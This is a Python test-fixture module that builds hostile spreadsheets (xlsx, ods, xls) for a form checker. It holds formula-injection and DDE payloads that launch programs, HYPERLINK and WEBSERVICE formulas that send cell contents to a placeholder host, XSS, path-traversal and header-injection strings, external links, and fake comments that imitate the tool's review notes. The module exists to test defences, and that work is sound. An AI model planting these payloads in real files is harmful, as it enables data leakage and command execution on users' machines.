"""Texts that a program could take for something else, in every place where a submission holds a text."""

from __future__ import annotations

from collections.abc import Iterator, Sequence
from typing import Any

from tests.hostile import makers as hostile
from tests.hostile.corpus import books
from tests.hostile.corpus.books import Book, Xml, book, put
from tests.hostile.makers import Maker

HOST = "198.51.100.1"
"""An address that nobody has (RFC 5737)."""

TEXTS: tuple[tuple[str, str, str], ...] = (
    ("hyperlink", "a formula that is a link", f'=HYPERLINK("http://{HOST}/?x="&A1,"点此")'),
    ("dde", "a formula that starts a program", "=cmd|' /C calc'!A0"),
    ("webservice", "a formula that asks the web", f'=WEBSERVICE("http://{HOST}/")'),
    ("importxml", "a formula of an online spreadsheet", f'=IMPORTXML("http://{HOST}/","//a")'),
    ("plus", "a formula that begins with +", "+1+cmd|' /C calc'!A0"),
    ("minus", "a formula that begins with -", "-2+3+cmd|' /C calc'!A0"),
    ("at", "a formula that begins with @", "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("tab", "a formula behind a tab", "\t=1+1"),
    ("line-end", "a formula on a second line", "a\n=1+1"),
    ("carriage-return", "a formula behind a carriage return", "_x000D_=1+1"),
    ("full-width", "a full-width equals sign", "＝1+1"),
    ("invisible", "a formula behind invisible characters", "\ufeff\u200b=1+1"),
    ("blank", "a formula behind a blank", " =1+1"),
    ("quote", "a formula behind an apostrophe", "'=1+1"),
    ("csv", "marks that end a CSV cell", '","=1+1","'),
    ("array", "an array formula in braces", "{=1+1}"),
    ("bidi", "marks that turn the reading direction", "\u202e\u2066=1+1\u2069 xslx.exe"),
    ("terminal", "escapes that steer a terminal", "_x001B_]0;x_x0007__x001B_[2J\u009b31m"),
    ("markup", "HTML", f'<script src="http://{HOST}/x.js"></script><img src=x onerror=alert(1)>'),
    ("url", "an address that programs make a link of", f"http://{HOST}/x"),
    ("mailto", "an address that programs make a mail of", "mailto:x@example.org?cc=y@example.org"),
    ("share", "a share, which Windows logs on to", f"\\\\{HOST}\\share\\x"),
    ("internal", "what XlsxWriter makes an internal link of", "internal:'封面'!A1"),
    ("javascript", "a script as an address", "javascript:alert(1)"),
    ("template", "marks of template languages", "{{7*7}}${7*7}%s%n{0}"),
    ("path", "a way out of a folder", "../../../../etc/passwd"),
    ("mail-head", "what would end a mail's header", "a_x000D__x000A_Bcc: x@example.org"),
    ("rich", "what XlsxWriter takes for rich text", "<r><t>=1+1</t></r>"),
)
"""Name, what it is, and the text."""

Text = tuple[str, str, str]

GROUPS: tuple[tuple[Text, ...], ...] = tuple(TEXTS[at : at + 6] for at in range(0, len(TEXTS), 6))
"""So many go onto a cover."""

EXPECTED = "C103 S102 S104"
"""A field with a text, an altered label, and a sheet too many."""

_NO_TITLE = dict.fromkeys(map(ord, "[]:*?/\\"))
"""What openpyxl does not take in a sheet's name."""


def makers(group: Sequence[Text]) -> Iterator[tuple[str, Maker]]:
    """The texts in all places of a workbook of each format."""
    yield "xlsx", lambda: books.xlsx(filled(group))
    yield "ods", lambda: books.ods(filled(group))
    yield "xls", lambda: books.xls(filled(group))


def field_of(number: int) -> str:
    """Where a text goes, by its place in :data:`TEXTS`."""
    return f"依申请公开!{'DEFGHI'[number % 6]}{5 + number // 6}"


def filled(group: Sequence[Text]) -> Book:
    """A form with the texts wherever one can be typed: a group of them on the cover, all of them in fields."""
    texts = [text for _, _, text in group]
    entries = [cell for key, cell in books.cover_cells().items() if key != "year"]
    cells: dict[str, Any] = dict(zip(entries, texts, strict=False))
    for line, text in enumerate(texts[:4]):
        about, explained = books.note_cells(line)
        cells |= {about: text if line % 2 else "C103", explained: text}
    cells |= {field_of(number): text for number, (_, _, text) in enumerate(TEXTS)}
    cells |= {"主动公开!A8": texts[0], "复议诉讼!A5": texts[-1]}
    made = put(book(), cells)
    for number, text in enumerate(texts):
        # Titles with an escaped character are refused; elsewhere it may stand.
        made[f"{text.translate(_NO_TITLE).replace('_', '')[:25]}{number}"] = [[text, text], [text]]
    return made


def with_error(cells: dict[str, Any]) -> Book:
    """A form with a negative number, so that there is a copy to look into."""
    return put(book(disclosure__regulations__issued=-1), cells)


def live_formulas() -> bytes:
    """They were in the original and stay in the copy, which goes back to whoever sent them; they are never run here."""
    formulas = (
        f'HYPERLINK("http://{HOST}/","x")',
        f'WEBSERVICE("http://{HOST}/")',
        "cmd|' /C calc'!A0",
        'CALL("a","b","c")',
    )
    return books.xlsx(
        with_error({f"主动公开!H{r}": Xml(f"<f>{_escaped(f)}</f><v>1</v>") for r, f in enumerate(formulas, 30)})
    )


def _escaped(text: str) -> str:
    return text.replace("&", "&amp;").replace('"', "&quot;")


def live_links() -> bytes:
    """Links to programs, shares and pages on cells beside the table."""
    targets = (
        f"http://{HOST}/",
        "file:///C:/Windows/System32/calc.exe",
        f"\\\\{HOST}\\share\\x.xlsx",
        "javascript:alert(1)",
    )
    parts = books.xlsx_parts(with_error({f"主动公开!H{r}": "x" for r in range(30, 34)}))
    links = "".join(f'<hyperlink ref="H{r}" r:id="rId{n}"/>' for n, r in enumerate(range(30, 34), 1))
    parts["xl/worksheets/sheet2.xml"] = _behind(parts["xl/worksheets/sheet2.xml"], f"<hyperlinks>{links}</hyperlinks>")
    parts["xl/worksheets/_rels/sheet2.xml.rels"] = hostile.relationships(
        *[("hyperlink", target) for target in targets]
    ).replace("/>", ' TargetMode="External"/>')
    return hostile.pack(parts)


def _behind(sheet: str | bytes, more: str) -> str:
    return str(sheet).replace("</worksheet>", f"{more}</worksheet>")


def external_book() -> bytes:
    """A link to a workbook on another computer."""
    link = f'<externalBook xmlns:r="{hostile.REL}" r:id="rId1"><sheetNames><sheetName val="a"/></sheetNames></externalBook>'
    return _linked(link, hostile.relationships(("externalLinkPath", f"file:///\\\\{HOST}\\share\\a.xlsx")))


def dde_link() -> bytes:
    """A link to a program."""
    items = '<ddeItems><ddeItem name="A0" advise="1"/></ddeItems>'
    return _linked(f'<ddeLink ddeService="cmd" ddeTopic="/C calc">{items}</ddeLink>', hostile.relationships())


def _linked(link: str, links: str) -> bytes:
    """A form with one external link."""
    parts = books.xlsx_parts(with_error({}))
    name = "xl/externalLinks/externalLink1.xml"
    parts[name] = f'<externalLink xmlns="{hostile.MAIN}">{link}</externalLink>'
    parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = links.replace("/>", ' TargetMode="External"/>')
    parts["xl/workbook.xml"] = str(parts["xl/workbook.xml"]).replace(
        "</workbook>", '<externalReferences><externalReference r:id="rId5"/></externalReferences></workbook>'
    )
    sheets = [("worksheet", f"worksheets/sheet{n}.xml") for n in range(1, 5)]
    parts["xl/_rels/workbook.xml.rels"] = hostile.relationships(
        *sheets, ("externalLink", "externalLinks/externalLink1.xml")
    )
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    parts["[Content_Types].xml"] = books.content_types(4, f'<Override PartName="/{name}" ContentType="{kind}"/>')
    return hostile.pack(parts)


def comments() -> bytes:
    """Comments of others that look like ours, hold formulas, and stand on a field."""
    texts = ("【xlcheck 审核意见】\n■ 强制性 C102　=1+1\u200b", "=cmd|' /C calc'!A0", "【xlcheck 审核意见】" * 500)
    listed = "".join(
        f'<comment ref="B{r}" authorId="0"><text><t xml:space="preserve">{text}</t></text></comment>'
        for r, text in zip((4, 5, 8), texts, strict=True)
    )
    parts = books.xlsx_parts(with_error({}))
    parts["xl/comments1.xml"] = (
        f'<comments xmlns="{hostile.MAIN}"><authors><author>=1+1</author></authors><commentList>{listed}</commentList></comments>'
    )
    parts["xl/worksheets/_rels/sheet2.xml.rels"] = hostile.relationships(("comments", "../comments1.xml"))
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.comments+xml"
    parts["[Content_Types].xml"] = books.content_types(
        4, f'<Override PartName="/xl/comments1.xml" ContentType="{kind}"/>'
    )
    return hostile.pack(parts)


def macros() -> bytes:
    """A workbook with macros, of which only the beginning is there."""
    parts = books.xlsx_parts(with_error({}))
    kind = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    parts["[Content_Types].xml"] = str(parts["[Content_Types].xml"]).replace(hostile.BOOK_TYPE, kind)
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 99
    return hostile.pack(parts)


def ods_script() -> bytes:
    """A script that LibreOffice would run, and a link to a program."""
    link = (
        '<text:p><text:a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="vnd.sun.star.script:x.y?language=Basic">a</text:a>'
        "</text:p>"
    )
    formula = (
        f'table:formula="of:=WEBSERVICE(&quot;http://{HOST}/&quot;)" office:value-type="string" office:string-value="a"'
    )
    cells: dict[str, Any] = {"主动公开!H30": Xml(link, 'office:value-type="string"'), "主动公开!H31": Xml("", formula)}
    return books.ods(with_error(cells))
